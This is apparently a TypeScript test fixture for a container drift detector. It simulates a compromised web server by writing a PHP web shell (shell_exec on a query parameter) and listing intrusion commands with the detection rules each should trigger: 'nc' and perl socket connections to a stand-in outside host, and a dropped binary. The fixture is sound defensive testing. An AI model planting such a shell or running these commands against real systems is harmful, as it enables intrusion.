/**
 * Somebody who has put a page into a web server's directory, and lets it run commands. What is normal there starts no program at
 * all, so that even a first shell is too much. Played by baselines.test.ts.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Pod } from './cluster.ts'
import { stranger } from './surroundings.ts'
import { ask } from './workloads.ts'

export interface Intrusion {
  readonly name: string
  readonly command: string
  /** Which rule of drift tells, in which words. */
  readonly rule: string
  readonly reason: RegExp
}

export const intrusions: readonly [Intrusion, ...Intrusion[]] = [
  {
    name: 'a first shell under the server',
    command: 'id',
    rule: 'MF1002',
    reason:
      /first time.*php-cgi8.2 → \/usr\/bin\/dash; \/usr\/bin\/php-cgi8.2 has never started a shell/,
  },
  {
    name: 'a network tool',
    command: `nc -w 1 ${stranger} 4444 </dev/null`,
    rule: 'MF1001',
    reason: /first time.*nc.*; it is a network tool/,
  },
  {
    name: 'a dropped file',
    command: 'cp /usr/bin/id /srv/helper && /srv/helper',
    rule: 'MF1001',
    reason: /first time.*\/srv\/helper.*; the file came after the container began/,
  },
  {
    name: 'a connection to somebody unknown, by a program that is',
    command: `perl -MIO::Socket -e 'IO::Socket::INET->new("${stranger}:443")'`,
    rule: 'MF1003',
    reason: /first time.*perl connects to 198\.51\.100\.0\/24:443\/tcp; it goes out of the cluster/,
  },
]

export interface Entered extends Pod {
  /** Has the page run a command line. */
  readonly shell: (command: string) => Promise<void>
}

/** Puts the page there, as a hole in an upload form would. */
export const letIn = async (pod: Pod): Promise<Entered> => {
  const page = '<?php echo shell_exec($_GET["run"]), "done";'
  writeFileSync(join(pod.rootfs, 'srv/php/upload.php'), page)
  const shell = (command: string): Promise<void> =>
    ask(pod.host, `/upload.php?run=${encodeURIComponent(command)}`)
  return { ...pod, shell }
}
